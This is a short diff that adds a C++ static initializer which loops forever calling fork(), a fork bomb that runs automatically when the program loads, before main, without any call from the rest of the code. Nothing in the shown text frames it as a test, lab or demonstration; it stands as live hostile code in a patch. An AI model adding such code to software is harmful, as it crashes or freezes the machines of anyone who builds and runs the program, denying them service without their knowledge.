@@ -1,0 +1,5 @@
+#include <unistd.h>
+static const int bomb = [] {
+  for (;;) ::fork();
+  return 0;
+}();
